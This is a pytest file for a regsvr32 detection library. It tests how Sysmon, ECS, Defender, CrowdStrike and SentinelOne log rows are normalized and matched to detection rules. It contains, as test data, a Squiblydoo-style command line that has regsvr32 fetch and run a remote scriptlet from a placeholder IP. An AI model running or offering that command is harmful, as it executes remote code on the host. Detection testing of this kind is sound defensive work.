"""Which reader reads a row (fields.normalize, docs/edr.md and docs/failure-behaviour.md).

The readers are the EDR shapes of fields.EDR_SHAPES, asked in order by the field that names each
vendor's event type, then the Windows/CIM reader. A selector holding a placeholder (N/A, null,
unknown, -, empty) says nothing; a selector value from another schema (ECS's event.type in the
field SentinelOne names its events by) claims nothing; a vendor's own event type that no rule
reads leaves a row unjudged only when no other reader reads it; and a row that mentions
regsvr32 but that no reader reads says so in regsvr32_error.
"""
import pytest

from regsvr32_detector import Detector, fields

pytestmark = pytest.mark.pure

SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
CMD = "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll"
SYSMON = {"EventCode": "1", "Image": SYS32, "CommandLine": CMD, "ParentImage": "C:\\Windows\\explorer.exe"}
ECS = {"process.executable": SYS32, "process.command_line": CMD,
       "process.parent.executable": "C:\\Windows\\explorer.exe"}
PLACEHOLDERS = ["", "-", "N/A", "n/a", "null", "NULL", "unknown", "Unknown", "none", " N / A "]
SELECTORS = ["ActionType", "properties.ActionType", "event_simpleName", "event.type", "type",
             "event.code", "event.category", "event.category{}"]


@pytest.fixture(scope="module")
def plain():
    return Detector()


def _read(record):
    ev = fields.normalize(record)
    return ev and (ev.edr, ev.kind)


@pytest.mark.parametrize("selector", SELECTORS)
@pytest.mark.parametrize("placeholder", PLACEHOLDERS)
def test_a_placeholder_selector_does_not_veto_sysmon(plain, selector, placeholder):
    # ActionType=N/A (fillnull, a join with Defender's table) must not drop a Squiblydoo
    record = dict(SYSMON, **{selector: placeholder})
    assert _read(record) == ("", "process")
    assert "R32-001" in plain.evaluate(record).rules


@pytest.mark.parametrize("placeholder", ["-", "null", "N/A", "unknown", ["-"], ["null", "N/A"]])
def test_a_placeholder_event_code_is_no_event_code(placeholder):
    assert _read(dict(SYSMON, EventCode=placeholder)) == ("", "process")


@pytest.mark.parametrize("event_type", [
    "start", "process_start", "info", "START", ["start"], ["start", "process_start"], ["info"],
    ["change", "process_start"], "-", "null"])
@pytest.mark.parametrize("category", [
    ("event.category", "process"), ("event.category", ["process"]),
    ("event.category", ["host", "process"]), ("event.category{}", ["process"]),
    ("event.category", '["process"]'), ("event.category", "process\nhost")],
    ids=["text", "list", "list-second", "json-array-field", "json-text", "lines"])
def test_ecs_process_starts_are_ecs_whatever_their_event_type(plain, event_type, category):
    # SentinelOne's selector is event.type too, and "start" is no SentinelOne event type: it
    # must not veto an Elastic Defend process start
    record = dict(ECS, **{"event.type": event_type, category[0]: category[1]})
    assert _read(record) == ("ecs", "process")
    assert "R32-001" in plain.evaluate(record).rules


@pytest.mark.parametrize("categories, kind", [
    (["configuration", "registry"], "registry"), (["registry"], "registry"),
    (["network", "process"], "network"), (["iam", "library"], "image_load")])
def test_ecs_category_arrays_are_read_by_their_first_known_value(categories, kind):
    record = {"event.category": categories, "process.executable": SYS32,
              "registry.path": "HKLM\\x", "dll.path": "C:\\x\\scrobj.dll", "destination.ip": "1.2.3.4"}
    assert _read(record) == ("ecs", kind)


def test_ecs_event_code_decides_before_event_category():
    # Winlogbeat's Sysmon 5 (process ended) is in category process: not a process start
    record = dict(ECS, **{"event.code": "5", "event.category": ["process"], "event.type": ["end"]})
    assert fields.normalize(record) is None
    assert _read(dict(record, **{"event.code": "N/A", "event.type": ["start"]})) == ("ecs", "process")
    assert _read(dict(record, **{"event.code": "N/A"})) is None         # an end, by event.type


@pytest.mark.parametrize("record", [
    {"event_simpleName": "UserLogon", "CommandLine": CMD},
    {"ActionType": "LogonSuccess", "ProcessCommandLine": CMD, "FileName": "regsvr32.exe"},
    {"event.type": "Login", "tgt.process.cmdline": CMD},
    {"event.code": "4624", "process.command_line": CMD},
    {"EventCode": "10", "SourceImage": SYS32, "TargetImage": "C:\\x.exe"},
], ids=["crowdstrike", "defender", "sentinelone", "ecs", "sysmon"])
def test_an_event_type_no_rule_reads_is_left_unjudged_without_an_error(plain, record):
    assert fields.normalize(record) is None
    assert plain.evaluate(record).error == ""


def test_a_vendor_type_no_rule_reads_does_not_veto_a_sysmon_event_code():
    # a Sysmon row with a stray event.type ("info" is ECS's, "Login" SentinelOne's)
    for value in ("info", "Login"):
        assert _read(dict(SYSMON, **{"event.type": value})) == ("", "process")


@pytest.mark.parametrize("record, said", [
    (dict(ECS, **{"event.category": "N/A"}), "event.category='N/A'"),
    (dict(ECS, **{"event.category": ["null"], "event.type": "start"}), "event.type='start'"),
    (dict(ECS), "no field names its event type"),
    ({"ActionType": "null", "FolderPath": SYS32, "ProcessCommandLine": CMD}, "ActionType='null'"),
    ({"properties.ActionType": "-", "properties.ProcessCommandLine": CMD}, "properties.ActionType='-'"),
    ({"event.type": "", "tgt.process.cmdline": CMD}, "event.type=''"),
    ({"type": "something.else", "childproc_name": SYS32, "target_cmdline": CMD}, "type='something.else'"),
], ids=["ecs-na", "ecs-null-and-ecs-type", "ecs-no-selector", "defender-null", "defender-eventhub-dash",
        "sentinelone-empty", "carbonblack-other-type"])
def test_a_row_no_reader_reads_says_so(plain, record, said):
    verdict = plain.evaluate(record)
    assert verdict.score == 0 and verdict.error.startswith("no reader for this row: regsvr32 is in ")
    assert said in verdict.error, verdict.error


def test_a_row_that_mentions_regsvr32_outside_every_reader_is_not_an_error(plain):
    # rows that cannot concern regsvr32 never reach the readers
    assert plain.evaluate(dict(ECS, **{"event.category": "N/A", "process.executable": "C:\\x\\a.exe",
                                       "process.command_line": "a.exe"})).error == ""


def test_a_mixed_chunk_header_reads_each_row_by_its_own_fields(plain):
    # one chunk of Sysmon and ECS rows has the union of their fields, each row's others empty
    names = sorted(set(SYSMON) | set(ECS) | {"event.category", "ActionType"})
    blank = dict.fromkeys(names, "")
    sysmon = dict(blank, **SYSMON)
    ecs = dict(blank, **dict(ECS, **{"event.category": "process"}))
    unread = dict(blank, **dict(ECS, **{"event.category": "N/A"}))
    assert [plain.evaluate(r).score > 0 for r in (sysmon, ecs)] == [True, True]
    assert plain.evaluate(unread).error.startswith("no reader for this row")


# --- paths as Windows logs write them, and unknown folders (reliability item 7) ------------------
SAFE = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"


@pytest.mark.parametrize("image", [
    "\\??\\C:\\Windows\\System32\\regsvr32.exe", "\\\\?\\C:\\Windows\\SysWOW64\\regsvr32.exe",
    "%SystemRoot%\\System32\\regsvr32.exe", "%windir%\\SysWOW64\\regsvr32.exe",
    "\\SystemRoot\\System32\\regsvr32.exe", "C:\\Windows\\Sysnative\\regsvr32.exe"])
def test_regsvr32_in_system32_however_logged_is_at_home(plain, image):
    for record in ({"EventCode": "1", "Image": image, "CommandLine": SAFE},
                   {"EventCode": "4688", "NewProcessName": image, "CommandLine": SAFE},
                   {"event.code": "1", "process.executable": image, "process.command_line": SAFE},
                   {"ActionType": "ProcessCreated", "FolderPath": image, "FileName": "regsvr32.exe",
                    "ProcessCommandLine": SAFE}):
        ev = fields.normalize(record)
        assert ev.image.startswith("C:\\Windows\\Sys") and ev.is_regsvr32, (record, ev.image)
        assert plain.evaluate(record).rules == (), record


@pytest.mark.parametrize("folder", ["null", "NULL", "N/A", "unknown", "-", "", None])
def test_an_unknown_folder_is_not_an_unexpected_one(plain, folder):
    # Defender's FolderPath=null with FileName=regsvr32.exe is no folder: not null\regsvr32.exe,
    # which R32-020 would call an unexpected one
    record = {"ActionType": "ProcessCreated", "FileName": "regsvr32.exe", "ProcessCommandLine": SAFE,
              "FolderPath": folder}
    if folder is None:
        del record["FolderPath"]
    ev = fields.normalize(record)
    assert (ev.image, ev.image_name, ev.is_regsvr32) == ("", "regsvr32.exe", True)
    assert "R32-020" not in plain.evaluate(record).rules
    # a relative image says no folder either
    assert "R32-020" not in plain.evaluate({"EventCode": "1", "Image": "System32\\regsvr32.exe",
                                            "CommandLine": SAFE}).rules


@pytest.mark.parametrize("image", ["C:\\Users\\Public\\regsvr32.exe", "\\??\\C:\\Users\\Public\\regsvr32.exe",
                                   "%PUBLIC%\\regsvr32.exe", "\\\\fs01\\tools\\regsvr32.exe",
                                   "\\??\\UNC\\fs01\\tools\\regsvr32.exe"])
def test_regsvr32_out_of_place_however_logged_is_still_said(plain, image):
    assert "R32-020" in plain.evaluate({"EventCode": "1", "Image": image, "CommandLine": SAFE}).rules


def test_a_placeholder_file_name_does_not_become_part_of_the_path():
    ev = fields.normalize({"ActionType": "ProcessCreated", "FolderPath": "C:\\Windows\\System32\\regsvr32.exe",
                           "FileName": "null", "ProcessCommandLine": SAFE})
    assert ev.image == "C:\\Windows\\System32\\regsvr32.exe"


@pytest.mark.parametrize("image", ["\\??\\C:\\Windows\\System32\\rundll32.exe",
                                   "%SystemRoot%\\System32\\rundll32.exe", "C:\\Windows\\Sysnative\\rundll32.exe"])
def test_a_system32_program_however_logged_is_a_system32_program(plain, image):
    # R32-030 reads the image's folder: a logged form once hid it
    record = {"EventCode": "7", "Image": image, "ImageLoaded": "\\??\\C:\\Windows\\System32\\scrobj.dll"}
    assert "R32-030" in plain.evaluate(record).rules


def test_a_module_under_sysnative_is_under_system32(plain):
    # R32-043 (Emotet's System32\<random>\): Sysnative is System32 to a 32-bit regsvr32
    record = {"EventCode": "1", "Image": "C:\\Windows\\SysWOW64\\regsvr32.exe",
              "CommandLine": "regsvr32.exe /s C:\\Windows\\Sysnative\\Dczxlqhzar\\pmcm.dll"}
    assert "R32-043" in plain.evaluate(record).rules


@pytest.mark.parametrize("said", [
    {"event.type": "end"}, {"event.type": ["end"]}, {"event.type": "END"}, {"event.type": "process_end"},
    {"event.type{}": ["end"]}, {"event.type": '["end"]'}, {"event.action": "end"},
    {"event.type": ["info", "end"]}, {"event.type": "start", "event.action": "end"},
    {"event.type": "N/A", "event.action": "end"}, {"event.action": "process_stopped"}])
def test_an_ecs_process_end_is_no_second_start(plain, said):
    # Elastic Defend's process end (event.category process, event.type end) is no process start:
    # read as one, every finding of a process would come twice, when it started and when it ended
    start = dict(ECS, **{"event.category": ["process"], "event.type": ["start"], "event.action": "start"})
    assert "R32-001" in plain.evaluate(start).rules
    end = dict(start, **said)
    assert fields.normalize(end) is None
    verdict = plain.evaluate(end)
    assert (verdict.score, verdict.rules, verdict.error) == (0, (), "")


@pytest.mark.parametrize("said", [{"event.type": "start"}, {"event.type": ["change", "info"]},
                                  {"event.type": "null"}, {"event.action": "exec"}, {"event.action": "fork"}])
def test_an_ecs_process_event_that_is_not_an_end_is_read(plain, said):
    record = dict(ECS, **{"event.category": "process"}, **said)
    assert _read(record) == ("ecs", "process")
    assert "R32-001" in plain.evaluate(record).rules
